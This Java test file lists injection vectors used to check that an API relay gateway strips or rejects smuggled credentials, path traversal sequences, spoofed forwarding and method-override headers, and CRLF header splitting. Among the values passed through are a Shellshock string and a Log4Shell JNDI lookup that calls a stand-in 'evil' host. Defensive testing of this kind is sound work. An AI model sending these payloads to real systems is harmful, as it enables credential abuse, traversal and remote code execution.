package io.geminirelay.e2e;

import static io.geminirelay.e2e.Vector.answered;
import static io.geminirelay.e2e.Vector.get;
import static io.geminirelay.e2e.Vector.getOn;
import static io.geminirelay.e2e.Vector.head;
import static io.geminirelay.e2e.Vector.sentOn;
import static io.geminirelay.e2e.Vector.served;

import java.util.ArrayList;
import java.util.List;

/** What would slip another credential, path, header or address past the gateway. */
final class InjectionVectors {
  private static final String MODELS = "/v1beta/models";
  private static final String QUERY = "RFC 3986 section 3.4; Google's system parameters";
  private static final String PATH = "RFC 3986 sections 3.3 and 6.2.2; OWASP path traversal";
  private static final String HEADER = "RFC 9110 sections 7.6 and 11; CVE-2022-31813";

  private InjectionVectors() {}

  /** Rows of a name, the query sent, and the query sent on. */
  private static final List<List<String>> QUERIES =
      List.of(
          List.of("key", "?key=theirs", ""),
          List.of("encoded letter", "?%6bey=theirs", ""),
          List.of("all letters encoded", "?%6B%65%79=theirs", ""),
          List.of("upper case", "?KEY=theirs&alt=json", "?alt=json"),
          List.of("mixed and encoded", "?%4bEy=theirs", ""),
          List.of("repeated", "?key=a&alt=json&key=b", "?alt=json"),
          List.of("behind a semicolon", "?alt=json;key=theirs", "?alt=json"),
          List.of("before a semicolon", "?key;=theirs&alt=json", "?alt=json"),
          List.of("with a semicolon in its value", "?key=the;irs", ""),
          List.of("without a value", "?key&alt=json", "?alt=json"),
          List.of("with two equals signs", "?key==theirs", ""),
          List.of("behind an empty parameter", "?&key=theirs", "?"),
          List.of("second question mark", "?a=b?key=mine", "?a=b?key=mine"),
          List.of("encoded twice, another name to all", "?%256bey=x", "?%256bey=x"),
          List.of("part of a name", "?monkey=1&keys=2&key2=3", "?monkey=1&keys=2&key2=3"),
          List.of("encoded separator in a value", "?a=b%26key=x", "?a=b%26key=x"),
          List.of("access token", "?access_token=theirs", ""),
          List.of("access token, encoded", "?access%5Ftoken=theirs", ""),
          List.of("OAuth token", "?oauth_token=theirs", ""),
          List.of("bearer token", "?bearer_token=theirs", ""),
          List.of("password", "?password=theirs", ""),
          List.of("system parameter", "?$key=theirs", ""),
          List.of("system parameter, encoded", "?%24key=theirs", ""),
          List.of("project that pays", "?$userProject=theirs&pageSize=1", "?pageSize=1"),
          List.of("headers in the query", "?$httpHeaders=x-goog-api-key:theirs", ""),
          List.of("method in the query", "?$httpMethod=DELETE&$req={}", ""),
          List.of("line end in a value", "?a=b%0d%0ac:%20d", "?a=b%0d%0ac:%20d"),
          List.of("NUL in a value", "?a=%00", "?a=%00"),
          List.of("dots and slashes", "?a=../../b//c", "?a=../../b//c"));

  private static final List<String> PATHS =
      List.of(
          MODELS + "/../models",
          MODELS + "/./a",
          MODELS + "/..",
          MODELS + "/%2e%2e/a",
          MODELS + "/%2E./a",
          MODELS + "/.%2e/a",
          MODELS + "/..%2fa",
          MODELS + "/%2e%2e%2fa",
          MODELS + "/..;/a",
          MODELS + "/..;a=b/a",
          MODELS + "/.;/a",
          MODELS + "/%252e%252e/a",
          MODELS + "/a%255cb",
          MODELS + "//a",
          "//evil" + MODELS,
          "/v1beta//models",
          MODELS + "/a\\b",
          MODELS + "/a%5cb",
          MODELS + "/a%5Cb",
          "/v1beta%2fmodels",
          "/v1beta/tunedModels%2fa",
          MODELS + "/%2fa",
          MODELS + "/a%00",
          MODELS + "/a%0d%0ax:y",
          MODELS + "/a%0a",
          MODELS + "/a%7f",
          MODELS + "/a%",
          MODELS + "/a%4",
          MODELS + "/a%zz",
          MODELS + "/a%u002e");

  private static final List<String> LEFT_OUT =
      List.of(
          "authorization: Bearer theirs",
          "Authorization: Basic dGhlaXJz",
          "x-goog-api-key: theirs",
          "X-GOOG-API-KEY: theirs",
          "x-api-key: theirs",
          "api-key: theirs",
          "cookie: a=b",
          "proxy-authorization: Basic dGhlaXJz",
          "x-goog-user-project: theirs",
          "x-goog-iam-authorization-token: theirs",
          "x-goog-iam-authority-selector: theirs",
          "x-http-method-override: DELETE",
          "x-http-method: DELETE",
          "x-method-override: DELETE",
          "x-original-url: /admin",
          "x-rewrite-url: /admin",
          "forwarded: for=127.0.0.1;host=evil",
          "x-forwarded-for: 127.0.0.1",
          "x-forwarded-host: evil",
          "x-forwarded-proto: https",
          "x-forwarded-prefix: /evil",
          "x-real-ip: 127.0.0.1",
          "true-client-ip: 127.0.0.1",
          "via: 1.1 evil",
          "origin: null",
          "referer: http://evil/",
          "proxy-anything: theirs",
          "x-relay-admin: theirs",
          "x-http2-stream-id: 1",
          "x-http2-path: /admin",
          "x_goog_api_key: theirs",
          "X_Goog-Api_Key: theirs",
          "x_api_key: theirs",
          "proxy_authorization: theirs",
          "x_forwarded_for: 127.0.0.1",
          "x_http_method_override: DELETE",
          "content_length: 5",
          "transfer_encoding: chunked",
          "keep_alive: timeout=5",
          "connection: x-note\r\nx-note: theirs",
          "connection: x-note\r\nx_note: theirs",
          "connection: close-not, x-note\r\nX-NOTE: theirs",
          "connection: x-goog-api-key, authorization, via",
          "connection: host, x-goog-api-key",
          "connection: ,, x-goog-api-key ,");

  private static final List<String> KEPT =
      List.of(
          "x-note: a, b;c=\"d\"",
          "x_note: a",
          "x-goog-api-client: gl-java/17",
          "x-note: %0d%0ainjected: yes",
          "x-note: http://a/?key=kept",
          "user-agent: () { :; }; echo",
          "x-note: ${jndi:ldap://evil/a}");

  static List<Vector> all() {
    List<Vector> all = new ArrayList<>();
    for (List<String> row : QUERIES) {
      String sent = head("GET " + MODELS + row.get(1) + " HTTP/1.1");
      String sentOn = sentOn("GET " + MODELS + row.get(2) + " HTTP/1.1");
      all.add(served("Q" + all.size(), row.get(0), QUERY, sent, sentOn));
    }
    for (String path : PATHS) {
      String sent = head("GET " + path + " HTTP/1.1");
      all.add(answered("I" + all.size(), path, PATH, sent, 400, false));
    }
    for (String line : LEFT_OUT) {
      all.add(served("O" + all.size(), line, HEADER, get(line), getOn()));
    }
    for (String line : KEPT) {
      all.add(served("S" + all.size(), line, HEADER, get(line), getOn(line)));
    }
    return all;
  }
}
